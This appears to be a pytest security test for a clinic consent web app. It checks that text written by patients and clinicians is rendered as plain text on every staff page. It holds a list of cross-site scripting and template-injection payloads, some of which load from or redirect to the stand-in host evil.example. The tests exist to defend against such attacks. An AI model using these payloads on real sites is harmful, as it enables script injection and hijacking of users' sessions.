"""What a patient writes is text on every screen of the staff, whatever it looks like (AB-04)."""

from collections.abc import Iterator
from dataclasses import replace
from html.parser import HTMLParser

import pytest

from consentapp.ports import Clinic
from consentapp.services import questions
from consentapp.settings import Settings
from consentapp.store import open_store
from tests.builders import CountedEntropy, FakeClock, Pager, QuickPasswords, store_address
from tests.web.people import House, Patient, packet_of

BENIGN = "Plain words"

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>Go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<a href=javascript:alert(1)>x</a>",
    "<style>@import '//evil.example';</style>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</blockquote></section></main><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "` onmouseover=alert(1)",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{7*7}}",
    "{% raw %}{{ config }}{% endraw %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<\u2028script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "<ſcript>alert(1)</ſcript>",
    "＜script＞alert(1)＜/script＞",
]


LONGEST = 200
"""Characters of a name."""


def together(payloads: list[str]) -> Iterator[str]:
    """Several in one text, as many as a name holds: whichever breaks out changes the page."""
    text = ""
    for payload in payloads:
        if len(text) + 1 + len(payload) > LONGEST:
            yield text
            text = ""
        text = f"{text} {payload}".strip()
    yield text


class Structure(HTMLParser):
    """Elements with the names of their attributes, and the text that a reader sees."""

    def __init__(self, body: bytes) -> None:
        super().__init__()
        self.elements: list[tuple[str, tuple[str, ...]]] = []
        self.scripts: list[str] = []
        self.text: list[str] = []
        self.values: list[str] = []
        self.feed(body.decode())

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, tuple(name for name, _ in attrs)))
        self.values += [value or "" for _, value in attrs]

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def says(self, words: str) -> bool:
        whole = " ".join("".join(self.text).split())
        return " ".join(words.split()) in whole


def written_everywhere(house: House, words: str) -> Patient:
    """A patient whose name, answers, question, doubt and signature say this; and a clinician's reason and answer."""
    patient = house.patient(name=words)
    patient.walks_to("Reasons").browser.press("Save and go on", {"item-reasons": "other"})
    patient.browser.open("/walk/health/reasons")
    patient.browser.press("Save and go on", {"item-reasons-other": words})
    patient.saves(pressure="yes", note=words)
    patient.saves(pressure="yes", treated="yes", note=words)
    questions.ask(house.clinic, intake=patient.intake, subject="practical", text=words)
    asked = house.facts(patient.intake)[-1].id
    questions.ask(house.clinic, intake=patient.intake, subject="not-sure", text=words)
    clinician = house.staff("clinician").open(f"/clinician/intakes/{patient.intake}")
    clinician.press("Record my decision", {"decision": "delay", "reason": words})
    clinician.posts(f"/desk/intakes/{patient.intake}/questions/{asked}", {"text": words})
    return patient


def staff_pages(house: House, intake: str, words: str) -> dict[str, bytes]:
    """Every page on which staff meet this patient."""
    desk, clinician, auditor = (house.staff(role) for role in ("intake", "clinician", "auditor"))
    return {
        "desk list": desk.open("/desk").body,
        "desk record": desk.open(f"/desk/intakes/{intake}").body,
        "desk link": desk.press("Make a link", {"mode": "remote"}).body,
        "desk form": desk.open("/desk/new").press("Open a record", {"name": words}).body,
        "clinician list": clinician.open("/clinician").body,
        "clinician record": clinician.open(f"/clinician/intakes/{intake}").body,
        "auditor list": auditor.open("/auditor").body,
        "auditor trail": auditor.open(f"/auditor/intakes/{intake}").body,
    }


QUOTED = ["desk record", "clinician record"]


@pytest.fixture(scope="module")
def plain(
    opened_clinic: Clinic, settings: Settings, bytecode: str, tmp_path_factory: pytest.TempPathFactory
) -> dict[str, Structure]:
    """The same pages for a patient who wrote plain words."""
    store = open_store(store_address(tmp_path_factory.mktemp("plain") / "consentapp.db"))
    quick = {"clock": FakeClock(), "entropy": CountedEntropy("plain"), "passwords": QuickPasswords()}
    house = House(
        replace(
            opened_clinic, store=store, catalog=packet_of(), courier=Pager(),
            site=replace(opened_clinic.site, languages=("en",)), **quick,
        ), settings, bytecode,
    )  # fmt: skip
    pages = staff_pages(house, written_everywhere(house, BENIGN).intake, BENIGN)
    store.close()
    return {name: Structure(body) for name, body in pages.items()}


@pytest.mark.parametrize("words", list(together(PAYLOADS)))
def test_what_a_patient_wrote_adds_nothing_to_a_page_but_text(
    words: str, house: House, plain: dict[str, Structure]
) -> None:
    """AB-04: element for element, the pages are those of a patient who wrote plain words."""
    pages = staff_pages(house, written_everywhere(house, words).intake, words)
    for name, body in pages.items():
        found = Structure(body)
        assert found.elements == plain[name].elements, name
        assert found.says(words) or words in found.values, name
    for name in QUOTED:
        assert " ".join("".join(Structure(pages[name]).text).split()).count(" ".join(words.split())) >= 4, (
            name
        )
